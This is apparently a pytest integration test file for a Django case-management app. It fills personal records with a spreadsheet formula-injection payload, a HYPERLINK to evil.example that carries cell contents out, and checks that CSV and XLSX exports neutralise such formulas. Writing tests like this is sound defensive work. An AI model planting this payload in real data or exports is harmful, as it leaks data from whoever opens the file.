"""Formulas in texts: whatever file is taken away, no cell of it is one.

Cells by themselves: tests/unit/core/test_sheets.py; one list: tests/integration/iom/test_exports.py. Here
every address that gives a file gives it of people whose every free text is a formula.
"""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from datetime import date
from typing import Any

import pytest
from django.test import Client

from alongside.iom.models import Case, Run
from alongside.people.models import Person
from integration.attacks.forms import FORMS, Ground, a_programme_case, send, somebody_entered
from integration.attacks.site_map import OURS, path_of
from integration.attacks.watching import body_of, found_in_each, taken_back

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
STARTS = ("=", "+", "-", "@", "\t", "\r")
# Given back byte for byte, which is what it is for; only who sent it may take it.
AS_RECEIVED = {"iom:received", "plans:received", "network:original"}


@pytest.fixture
def of_formulas(ground: Ground) -> Ground:
    """The cohort, with a formula wherever a text fits; and a run with rejected rows, last."""
    texts = ("surname", "forenames", "address", "postcode")
    Person.objects.update(**{name: FORMULA[: Person._meta.get_field(name).max_length] for name in texts})
    Case.objects.update(probation_worker=FORMULA, probation_team=FORMULA, status=FORMULA[:20])
    by = ground.posting("haringey")
    a_programme_case(by, somebody_entered(by, surname=FORMULA[:100], forenames=FORMULA))
    bad = ground.london.person("H000001", forenames=FORMULA, dob="31/02/1990", address=FORMULA)
    ground.london.check(date(2021, 4, 27), bad, ground.london.person("H000002"))
    return ground


def formulas_in(response: Any) -> list[str]:
    """The cells of a file that a spreadsheet would work out; a page has none, and no PDF."""
    taken_away = "attachment" in response.headers.get("Content-Disposition", "")
    if not taken_away or response.headers["Content-Type"] == "application/pdf":
        return []
    content = body_of(response)
    return list(_in_workbook(content) if content[:2] == b"PK" else _in_text(content.decode("utf-8-sig")))


def _in_workbook(content: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        for name in packed.namelist():
            yield from re.findall(r"<f[ >].*?</f>|<hyperlink [^>]*>|<ddeLink", packed.read(name).decode())


def _in_text(content: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(content)):
        yield from (cell for cell in row if cell.startswith(STARTS))


def test_no_file_that_a_page_gives_holds_a_formula(
    of_formulas: Ground, come_as: Callable[..., Client]
) -> None:
    newest = Run.objects.latest("id")
    browser = come_as("analyst")
    pages = [name for name in OURS if name not in AS_RECEIVED]

    def look(name: str) -> list[str]:
        return formulas_in(browser.get(path_of(name, pk=newest.pk)))

    assert found_in_each(pages, look) == {}


def test_the_rejected_rows_hold_what_would_be_a_formula(
    of_formulas: Ground, come_as: Callable[..., Client]
) -> None:
    newest = Run.objects.latest("id")
    content = body_of(come_as("analyst").get(path_of("iom:export_rejected", pk=newest.pk)))
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        texts = "".join(packed.read(name).decode() for name in packed.namelist())
    assert "=HYPERLINK(" in texts


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_no_file_that_a_form_gives_holds_a_formula(
    of_formulas: Ground, come_as: Callable[..., Client], form: str
) -> None:
    def look(name: str) -> list[str]:
        browser = come_as(FORMS[name].who)
        return formulas_in(send(browser, name, of_formulas, {"format": form}))

    assert found_in_each(sorted(FORMS), lambda name: taken_back(lambda: look(name))) == {}


def test_a_list_of_programme_cases_holds_what_would_be_a_formula(
    of_formulas: Ground, come_as: Callable[..., Client]
) -> None:
    content = body_of(send(come_as("haringey"), "casework:export", of_formulas)).decode("utf-8-sig")
    assert "'=HYPERLINK(" in content
    assert list(_in_text(content)) == []


def test_what_a_spreadsheet_would_work_out_is_seen() -> None:
    assert list(_in_text('a,"=1+1"\n\'=1,@SUM(A1)\n')) == ["=1+1", "@SUM(A1)"]
